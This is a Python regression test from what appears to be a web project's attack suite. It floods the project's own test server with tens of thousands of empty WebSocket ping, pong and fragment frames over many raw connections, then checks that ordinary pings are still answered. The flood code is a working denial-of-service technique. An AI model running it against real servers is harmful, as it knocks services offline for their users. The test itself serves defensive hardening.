"""WebSocket frames that are no messages: pings, pongs and fragments with nothing in them, by who has shown no token.

The library answered every ping that had come in one step of the loop and counted none. Now each is a frame like any
other, read as slowly as the rest; what sends half a megabyte without a message that could be read is cut.
"""

from __future__ import annotations

import asyncio
import time
from contextlib import suppress

import aiohttp

from tests.attacks.site import Site

BEFORE = "3 connections without a token: others' median 1.4 s"
_UPGRADE = (
    "Host: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
    "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n"
)


def frame(kind: int, *, is_final: bool = True) -> bytes:
    """A client's frame with nothing in it."""
    return bytes([0x80 * is_final | kind, 0x80]) + bytes(4)


FLOODS = {
    "ping": frame(9) * 10_000,
    "pong": frame(10) * 10_000,
    "fragment": frame(1, is_final=False) + frame(0, is_final=False) * 10_000,
}


async def attack(site: Site, until: float) -> str:
    token = site.token(user := site.user())
    raw = f"GET /ws/chat/{user} HTTP/1.1\r\n{_UPGRADE}Authorization: Bearer {token}\r\n\r\n"
    requests = ["GET /socket.io/?EIO=4&transport=websocket HTTP/1.1\r\n" + _UPGRADE + "\r\n", raw]
    sent = await asyncio.gather(
        *(_flood(site, request, flood, until) for request in requests for flood in FLOODS.values() for _ in range(2))
    )
    return f"{sum(sent) // 1024} KiB of {', '.join(FLOODS)} over 12 connections"


async def _flood(site: Site, request: str, flood: bytes, until: float) -> int:
    sent = 0
    while time.monotonic() < until:
        with suppress(OSError, TimeoutError, asyncio.IncompleteReadError):
            async with asyncio.timeout(max(0.01, until - time.monotonic())):
                reader, writer = await site.tcp()
                reading = asyncio.create_task(reader.read())
                try:
                    writer.write(request.encode())
                    while not reading.done():
                        writer.write(flood)
                        await writer.drain()
                        sent += len(flood)
                        await asyncio.sleep(0)
                finally:
                    reading.cancel()
                    writer.transport.abort()
        await asyncio.sleep(0.05)
    return sent


async def check(site: Site) -> list[str]:
    """Who pings as a client may is answered."""
    url = f"{site.url.replace('http', 'ws', 1)}/socket.io/?EIO=4&transport=websocket"
    async with site.http.ws_connect(url, autoping=False) as socket:
        await socket.receive()
        await socket.ping(b"there")
        answer = await socket.receive(timeout=10)
        return [] if answer.type is aiohttp.WSMsgType.PONG and answer.data == b"there" else ["a ping is not answered"]
